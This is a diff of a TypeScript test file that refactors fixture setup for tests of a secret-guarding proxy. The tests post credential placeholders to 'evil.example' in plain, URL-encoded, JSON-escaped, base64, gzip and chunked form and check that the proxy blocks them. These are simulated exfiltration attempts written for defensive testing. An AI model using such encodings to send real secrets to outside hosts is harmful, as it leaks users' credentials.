@@ -10,19 +10,12 @@ import type { IncomingMessage, ServerResponse } from "node:http";
 import { join } from "node:path";
 import { Readable } from "node:stream";
 import { gzipSync } from "node:zlib";
-import { type ProxyAgent, request } from "undici";
-import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { request } from "undici";
+import { describe, expect, it } from "vitest";
 import { rulesFor } from "../helpers/fixture.js";
-import { closeChecked, type InProcessFixture, openAIClient } from "../helpers/in-process.js";
+import { sharedOpenAIClient } from "../helpers/in-process.js";
 
-let f: InProcessFixture;
-let agent: ProxyAgent;
-let ph: string;
-
-beforeAll(async () => {
-  ({ f, agent, ph } = await openAIClient({ rules: (u) => `intercept: all\n${rulesFor(u)}` }));
-});
-afterAll(() => closeChecked(f, agent));
+const c = sharedOpenAIClient({ rules: (u) => `intercept: all\n${rulesFor(u)}` });
 
 /** What the upstream got of one request: its body so far, and whether it all arrived. */
 interface Arrival {
@@ -33,7 +26,7 @@ interface Arrival {
 /** A route on the upstream that records the body as it streams in, ended or cut off. */
 function recordArrival(path: string, answerEarly = false): Promise<Arrival> {
   return new Promise((resolve) => {
-    f.upstream.streamingRoutes.set(`POST ${path}`, (req: IncomingMessage, res: ServerResponse) => {
+    c.f.upstream.streamingRoutes.set(`POST ${path}`, (req: IncomingMessage, res: ServerResponse) => {
       const chunks: Buffer[] = [];
       let complete = false;
       if (answerEarly) {
@@ -58,7 +51,7 @@ async function post(
 ) {
   const res = await request(`https://evil.example${path}`, {
     method: "POST",
-    dispatcher: agent,
+    dispatcher: c.agent,
     headers: { "content-type": "application/octet-stream", ...headers },
     body: Buffer.isBuffer(body) ? body : Readable.from(body),
   });
@@ -85,25 +78,25 @@ const uEscaped = (s: string) =>
 
 describe("placeholders in request bodies under intercept: all", () => {
   it("refuses a body read whole, in each form, and sends nothing", async () => {
-    const before = f.upstream.received.length;
+    const before = c.f.upstream.received.length;
     const bodies: [string, Buffer, Record<string, string>][] = [
-      ["plain", Buffer.from(`token=${ph}&x=1`), {}],
-      ["url-encoded", Buffer.from(`q=${encodeURIComponent(`Bearer ${ph}`)}`), {}],
-      ["JSON \\u-escaped", Buffer.from(`{"k":"${uEscaped(ph)}"}`), {}],
-      ["base64", Buffer.from(`{"blob":"${Buffer.from(`key:${ph}`).toString("base64")}"}`), {}],
-      ["gzip", gzipSync(`{"key":"${ph}"}`), { "content-encoding": "gzip" }],
+      ["plain", Buffer.from(`token=${c.ph}&x=1`), {}],
+      ["url-encoded", Buffer.from(`q=${encodeURIComponent(`Bearer ${c.ph}`)}`), {}],
+      ["JSON \\u-escaped", Buffer.from(`{"k":"${uEscaped(c.ph)}"}`), {}],
+      ["base64", Buffer.from(`{"blob":"${Buffer.from(`key:${c.ph}`).toString("base64")}"}`), {}],
+      ["gzip", gzipSync(`{"key":"${c.ph}"}`), { "content-encoding": "gzip" }],
     ];
     for (const [name, body, headers] of bodies) {
       const r = await post("/whole", body, headers);
       expect(r.status, name).toBe(403);
       expectBlocked(r);
     }
-    expect(f.upstream.received.length).toBe(before);
+    expect(c.f.upstream.received.length).toBe(before);
   });
 
   it("cuts off a chunked body at the chunk holding a placeholder, split across chunks", async () => {
     const filler = Buffer.alloc(200 * 1024, "a");
-    const text = Buffer.concat([filler, Buffer.from(` token=${ph} `), filler]);
+    const text = Buffer.concat([filler, Buffer.from(` token=${c.ph} `), filler]);
     const arrival = recordArrival("/streamed");
     // 7-byte chunks around the placeholder: it arrives split, and no part of it may leave.
     const body = (async function* () {
@@ -115,13 +108,13 @@ describe("placeholders in request bodies under intercept: all", () => {
     const got = await arrival;
     expect(got.complete).toBe(false);
     expect(got.body.length).toBeLessThan(text.length);
-    expect(got.body.toString()).not.toContain(ph.slice(0, 6));
+    expect(got.body.toString()).not.toContain(c.ph.slice(0, 6));
   });
 
   it("cuts off a gzip-encoded chunked body", async () => {
     // Hex does not compress much: the upstream gets the first chunks before the placeholder.
     const noise = () => Buffer.from(randomBytes(150 * 1024).toString("hex"));
-    const text = Buffer.concat([noise(), Buffer.from(`{"k":"${ph}"}`), noise()]);
+    const text = Buffer.concat([noise(), Buffer.from(`{"k":"${c.ph}"}`), noise()]);
     const arrival = recordArrival("/streamed-gzip");
     const r = await post("/streamed-gzip", chunked(gzipSync(text), 4096), { "content-encoding": "gzip" });
     expectBlocked(r);
@@ -137,12 +130,12 @@ describe("placeholders in request bodies under intercept: all", () => {
     const body = (async function* () {
       yield Buffer.from("first clean chunk ");
       await headersIn;
-      yield Buffer.from(`then ${ph}`);
+      yield Buffer.from(`then ${c.ph}`);
       yield Buffer.from(" and more");
     })();
     const res = await request("https://evil.example/early", {
       method: "POST",
-      dispatcher: agent,
+      dispatcher: c.agent,
       body: Readable.from(body),
     });
     expect(res.statusCode).toBe(200);
@@ -150,7 +143,7 @@ describe("placeholders in request bodies under intercept: all", () => {
     await expect(res.body.text()).rejects.toThrow();
     const got = await arrival;
     expect(got.complete).toBe(false);
-    expect(got.body.toString()).not.toContain(ph);
+    expect(got.body.toString()).not.toContain(c.ph);
   });
 
   it("passes bodies without a placeholder byte for byte, whole, chunked and gzip", async () => {
@@ -163,7 +156,7 @@ describe("placeholders in request bodies under intercept: all", () => {
       const r = await post("/clean", body, headers);
       expect(r.status).toBe(200);
     }
-    const last = f.upstream.received.at(-1)!;
+    const last = c.f.upstream.received.at(-1)!;
     expect(last.headers["content-encoding"]).toBe("gzip");
     expect(last.body.equals(gzipSync(text))).toBe(true);
   });
@@ -171,17 +164,17 @@ describe("placeholders in request bodies under intercept: all", () => {
   it("leaves bodies to a provider's own host alone (its placeholder there is only a warning)", async () => {
     const res = await request("https://api.openai.com/v1/chat/completions", {
       method: "POST",
-      dispatcher: agent,
-      headers: { authorization: `Bearer ${ph}` },
-      body: `{"echo":"${ph}"}`,
+      dispatcher: c.agent,
+      headers: { authorization: `Bearer ${c.ph}` },
+      body: `{"echo":"${c.ph}"}`,
     });
     expect(res.statusCode).toBe(200);
     await res.body.text();
   });
 
   it("audits every refusal as blocked, the cut-off exchange too", async () => {
-    await f.broker.stop(); // the log is written after the response: stop to flush
-    const lines = readFileSync(join(f.home, "audit", "audit.jsonl"), "utf8")
+    await c.f.broker.stop(); // the log is written after the response: stop to flush
+    const lines = readFileSync(join(c.f.home, "audit", "audit.jsonl"), "utf8")
       .trim()
       .split("\n")
       .map((l) => JSON.parse(l) as Record<string, unknown>);
